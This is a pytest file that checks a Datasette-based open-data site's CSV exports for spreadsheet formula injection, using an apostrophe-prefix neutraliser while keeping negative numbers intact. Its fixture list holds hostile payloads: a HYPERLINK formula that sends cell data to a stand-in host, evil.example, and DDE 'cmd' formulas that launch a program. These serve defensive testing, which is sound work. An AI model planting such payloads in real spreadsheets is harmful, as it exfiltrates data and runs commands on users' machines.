"""CSV formula injection (issue 17, finding 3; issue 24: formulas behind spaces): every CSV the site serves is
opened here as a spreadsheet program would open it; no cell may be read as a formula, and numbers must stay
numbers."""

import csv
import io
import re
import shutil
import sqlite3

import pytest

from bench.site import make_datasette
from oc_site.http.csv_safety import CsvNeutraliser, neutralise

FORMULAS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Cliquez")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    " =1+1",  # issue 24: what a spreadsheet skips before a formula
    "\u00a0=HYPERLINK(\"http://evil.example/\")",
    "\ufeff@SUM(1+1)*cmd|' /C calc'!A0",
]
SKIPPED = "\t\r\n \u00a0\ufeff"
NUMBER = re.compile(r"[+-]?(\d+([.,]\d*)?|[.,]\d+)([eE][+-]?\d+)?")


def spreadsheet_reads(cell: str):
    """What a spreadsheet program (Excel, LibreOffice Calc) makes of a CSV cell: ("formule", text),
    ("nombre", value) or ("texte", text). A leading apostrophe marks text; = + - @, or a tab or a carriage
    return before them, start a formula unless the cell is a plain number."""
    if cell.startswith("'"):
        return "texte", cell[1:]
    if NUMBER.fullmatch(cell):
        return "nombre", float(cell.replace(",", "."))
    if cell.lstrip(SKIPPED)[:1] in ("=", "+", "-", "@"):
        return "formule", cell
    return "texte", cell


def open_as_spreadsheet(text: str) -> list[list[tuple]]:
    return [[spreadsheet_reads(cell) for cell in row] for row in csv.reader(io.StringIO(text, newline=""))]


@pytest.fixture
def hostile_ds(tmp_path, fixture_db):
    """Titles harvested from a hostile feed and a commune name turned into formulas."""
    db = tmp_path / "oc.db"
    shutil.copy(fixture_db, db)
    with sqlite3.connect(db) as conn:
        ids = [r[0] for r in conn.execute("SELECT id FROM publications ORDER BY id LIMIT ?", (len(FORMULAS),))]
        for id_, title in zip(ids, FORMULAS):
            conn.execute("UPDATE publications SET titre = ?, resume = ? WHERE id = ?", (title, title, id_))
        conn.execute("UPDATE communes SET nom = ? WHERE code_insee = '35238'", (FORMULAS[0],))
        conn.execute("UPDATE valeurs_communes_large SET nom = ? WHERE code = '35238'", (FORMULAS[0],))  # its copy
    return make_datasette(db)


EXPORTS = [
    "/oc/publications.csv?_size=max",
    "/oc/publications.csv?_stream=on&_dl=1",
    "/oc/publications_recherche.csv?q=&theme=&type=&producteur=&annee=&territoire=&du=&au=&_size=max",
    "/oc/valeurs_communes_large.csv?_size=max",
    "/oc/communes.csv?_stream=on",
    "/comparer.csv?codes=35238,15187,69264",
    "/oc.csv?sql=select+titre,+resume,+-5+as+moins_cinq,+'-3,5'+as+texte_nombre+from+publications",
]


@pytest.mark.parametrize("path", EXPORTS)
async def test_no_cell_of_any_export_is_a_formula(hostile_ds, path):
    response = await hostile_ds.client.get(path, follow_redirects=True)  # a CSV without _stream: to the export
    assert response.status_code == 200
    cells = [cell for row in open_as_spreadsheet(response.text) for cell in row]
    assert [c for c in cells if c[0] == "formule"] == []
    shown = {text for kind, text in cells if kind == "texte"}
    if "publications" in path or "sql=" in path:
        assert set(FORMULAS) <= shown  # still there, as text
    if "large" in path or "comparer" in path:
        assert FORMULAS[0] in shown


async def test_negative_numbers_stay_numbers(hostile_ds):
    rows = open_as_spreadsheet((await hostile_ds.client.get(
        "/oc/valeurs_communes_large.csv?code__in=15187,69264&_sort=code&_stream=on")).text)
    header = [text for _, text in rows[0]]
    column = header.index("evolution_population")
    assert [row[column] for row in rows[1:]] == [("nombre", -44.0), ("nombre", -685.0)]
    comparison = open_as_spreadsheet((await hostile_ds.client.get("/comparer.csv?codes=15187,69264")).text)
    column = next(i for i, (_, text) in enumerate(comparison[0]) if text.startswith("evolution_population_2"))
    assert [row[column] for row in comparison[1:]] == [("nombre", -44.0), ("nombre", -685.0)]
    query = open_as_spreadsheet((await hostile_ds.client.get(
        "/oc.csv?sql=select+-5+as+a,+'-3,5'+as+b,+'-'+as+c")).text)
    assert query[1] == [("nombre", -5.0), ("nombre", -3.5), ("texte", "-")]


def test_neutralise_follows_the_owasp_rule():
    assert neutralise("=1+1") == "'=1+1"
    assert neutralise("+33 1 23 45 67 89") == "'+33 1 23 45 67 89"
    assert neutralise("@foo") == "'@foo" and neutralise("\t=x") == "'\t=x" and neutralise("\r=x") == "'\r=x"
    for number in ("-12", "-3.5", "+4", "-1.2e-5", "-3,5", "12", ".5"):
        assert neutralise(number) == number
    assert neutralise("Rennes") == "Rennes" and neutralise("") == ""


@pytest.mark.parametrize("before", [" ", "   ", "\u00a0", "\ufeff", "\u202f", "\u200b", " \u00a0\ufeff"])
def test_a_formula_behind_spaces_or_a_byte_order_mark_is_neutralised_too(before):
    for formula in ("=1+1", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)"):
        assert neutralise(before + formula) == "'" + before + formula
    assert neutralise(before + "-12") == before + "-12"  # still a number
    assert neutralise(before + "Rennes") == before + "Rennes"


def test_neutraliser_reads_records_cut_anywhere():
    source = io.StringIO()
    writer = csv.writer(source)
    rows = [["titre", "valeur"], [FORMULAS[0], -12.5], ['ligne\r\ncoupée "citée"', "@x"], ["é€", "-3,5"]]
    writer.writerows(rows)
    data = source.getvalue().encode()
    for size in (1, 2, 5, len(data)):
        neutraliser = CsvNeutraliser()
        out = b"".join(neutraliser.feed(data[i:i + size]) for i in range(0, len(data), size)) + neutraliser.finish()
        assert list(csv.reader(io.StringIO(out.decode(), newline=""))) == [
            ["titre", "valeur"], ["'" + FORMULAS[0], "-12.5"], ['ligne\r\ncoupée "citée"', "'@x"], ["é€", "-3,5"]]
